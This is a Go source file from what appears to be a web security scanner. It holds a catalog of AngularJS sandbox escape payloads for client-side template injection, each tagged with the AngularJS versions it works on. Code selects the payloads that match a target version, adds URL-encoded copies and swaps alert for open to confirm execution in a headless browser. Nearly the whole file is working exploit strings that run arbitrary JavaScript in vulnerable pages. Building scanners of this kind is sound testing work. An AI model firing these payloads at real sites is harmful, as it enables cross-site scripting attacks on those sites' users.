// Package payloads holds the catalog of AngularJS sandbox escape payloads and
// selects the ones that apply to a given AngularJS version.
package payloads

import (
	"fmt"
	"net/url"
	"strings"
	"sync"
)

// Payload is a single sandbox escape together with the AngularJS versions it works on.
type Payload struct {
	Min     string `json:"min"`
	Max     string `json:"max"`
	Value   string `json:"value"`
	Message string `json:"message,omitempty"`
	// Encoded marks the URL-encoded duplicate of a catalog entry.
	Encoded bool `json:"encoded,omitempty"`
}

// Confirmation returns the non-modal variant of the payload. Every alert call is
// swapped for open, which spawns a second browsing context instead of a dialog
// that would block the headless browser.
func (p Payload) Confirmation() Payload {
	c := p
	c.Value = strings.ReplaceAll(p.Value, "alert", "open")
	return c
}

// catalog is ordered by AngularJS version. Order only affects result order.
var catalog = []Payload{
	{
		Min:   "1.0.0",
		Max:   "1.1.5",
		Value: `{{constructor.constructor('alert(1)')()}}`,
	},
	{
		Min:   "1.2.0",
		Max:   "1.2.1",
		Value: `{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(1)')()}}`,
	},
	{
		Min:   "1.2.2",
		Max:   "1.2.5",
		Value: `{{a="a"["constructor"].prototype;a.charAt=a.trim;$eval('a",alert(alert=1),"')}}`,
	},
	{
		Min:   "1.2.6",
		Max:   "1.2.18",
		Value: `{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'alert(1)')()}}`,
	},
	{
		Min:     "1.2.19",
		Max:     "1.2.23",
		Value:   `{{c=toString.constructor;p=c.prototype;p.toString=p.call;["alert(1)","a"].sort(c)}}`,
		Message: `Depending on your web browser's sorting algorithm, the ["alert(1)","a"] array must be reversed in order to execute the alert.`,
	},
	{
		Min:   "1.2.19",
		Max:   "1.2.26",
		Value: `{{(!call?$$watchers[0].get(toString.constructor.prototype):(a=apply)&&(apply=constructor)&&(valueOf=call)&&(''+''.toString('F =Function.prototype;'+'F.apply = F.a;'+'delete F.a;'+'delete F.valueOf;'+'alert(42);')));}}`,
	},
	{
		Min:   "1.2.24",
		Max:   "1.2.32",
		Value: `{{a="a"["constructor"].prototype;a.charAt=a.trim;$eval('a",alert(alert=1),"')}}`,
	},
	{
		Min:   "1.3.0",
		Max:   "1.3.0",
		Value: `{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=''.valueOf;$eval('x=alert(1)//');}}`,
	},
	{
		Min:   "1.3.0",
		Max:   "1.5.8",
		Value: `{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}`,
	},
	{
		Min:   "1.3.1",
		Max:   "1.3.2",
		Value: `{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=''.valueOf;$eval('x=alert(1)//');}}`,
	},
	{
		Min:   "1.3.3",
		Max:   "1.3.18",
		Value: `{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)//');}}`,
	},
	{
		Min:   "1.3.19",
		Max:   "1.3.19",
		Value: `{{'a'[{toString:false,valueOf:[].join,length:1,0:'__proto__'}].charAt=[].join;$eval('x=alert(1)//');}}`,
	},
	{
		Min:   "1.3.20",
		Max:   "1.3.20",
		Value: `{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}`,
	},
	{
		Min:   "1.4.0",
		Max:   "1.4.14",
		Value: `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}`,
	},
	{
		Min:   "1.4.10",
		Max:   "1.5.8",
		Value: `{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}`,
	},
	{
		Min: "1.5.9",
		Max: "1.5.11",
		Value: `{{c=''.sub.call;b=''.sub.bind;a=''.sub.apply;c.$apply=$apply;c.$eval=b;op=$root.$$phase;` +
			`$root.$$phase=null;od=$root.$digest;$root.$digest=({}).toString;C=c.$apply(c);$root.$$phase=op;` +
			`$root.$digest=od;B=C(b,c,b);$evalAsync("astNode=pop();astNode.type='UnaryExpression';` +
			`astNode.operator='(window.X?void0:(window.X=true,alert(1)))+';` +
			`astNode.argument={type:'Identifier',name:'foo'};");m1=B($$asyncQueue.pop().expression,null,$root);` +
			`m2=B(C,null,m1);[].push.apply=m2;a=''.sub;$eval('a(b.c)');[].push.apply=a;}}`,
	},
	{
		Min:   "1.6.0",
		Max:   "1.6.5",
		Value: `{{[].pop.constructor('alert(1)')()}}`,
	},
}

var cache sync.Map // version string -> []Payload

// All returns a copy of the full catalog in catalog order.
func All() []Payload {
	out := make([]Payload, len(catalog))
	copy(out, catalog)
	return out
}

// ForVersion returns every catalog entry whose range contains version, each one
// immediately followed by its URL-encoded duplicate. Results are cached per version
// for the lifetime of the process; callers must not modify the returned slice.
func ForVersion(version string) ([]Payload, error) {
	v, err := ParseVersion(version)
	if err != nil {
		return nil, err
	}
	key := v.String()
	if cached, ok := cache.Load(key); ok {
		return cached.([]Payload), nil
	}

	var out []Payload
	for _, p := range catalog {
		in, err := InRange(key, p.Min, p.Max)
		if err != nil {
			return nil, fmt.Errorf("catalog entry %s-%s: %w", p.Min, p.Max, err)
		}
		if !in {
			continue
		}
		out = append(out, p)

		encoded := p
		encoded.Value = url.QueryEscape(p.Value)
		encoded.Encoded = true
		out = append(out, encoded)
	}

	actual, _ := cache.LoadOrStore(key, out)
	return actual.([]Payload), nil
}

// Validate checks that every catalog entry has a well formed, non-inverted range.
func Validate() error {
	for i, p := range catalog {
		lo, err := ParseVersion(p.Min)
		if err != nil {
			return fmt.Errorf("catalog entry %d: %w", i, err)
		}
		hi, err := ParseVersion(p.Max)
		if err != nil {
			return fmt.Errorf("catalog entry %d: %w", i, err)
		}
		if lo.Key() > hi.Key() {
			return fmt.Errorf("%w: catalog entry %d has min %s above max %s", ErrInvalidVersion, i, p.Min, p.Max)
		}
		if p.Value == "" {
			return fmt.Errorf("catalog entry %d has an empty value", i)
		}
	}
	return nil
}
